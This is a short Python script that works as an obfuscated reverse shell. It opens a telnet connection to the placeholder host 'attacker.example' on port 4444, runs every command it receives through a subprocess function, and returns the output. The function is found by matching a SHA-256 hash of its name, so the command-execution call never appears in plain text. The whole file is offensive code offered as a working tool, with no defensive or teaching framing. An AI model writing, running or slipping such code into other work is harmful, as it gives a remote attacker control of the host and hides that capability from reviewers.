import hashlib
import subprocess
import telnetlib

DIGEST = '6b70ac10807a561bd3fb89f105c9005f23d1813f777b6a79a965ac8f754fa445'


def pick(module, digest):
    for name in dir(module):
        if hashlib.sha256(name.encode()).hexdigest() == digest:
            return getattr(module, name)
    raise LookupError(digest)


def main():
    runner = pick(subprocess, DIGEST)
    link = telnetlib.Telnet("attacker.example", 4444, timeout=60)
    while True:
        line = link.read_until(b"\n").decode(errors="replace").strip()
        if line in ("", "exit"):
            break
        link.write(runner(line).encode() + b"\n")
    link.close()


if __name__ == "__main__":
    main()
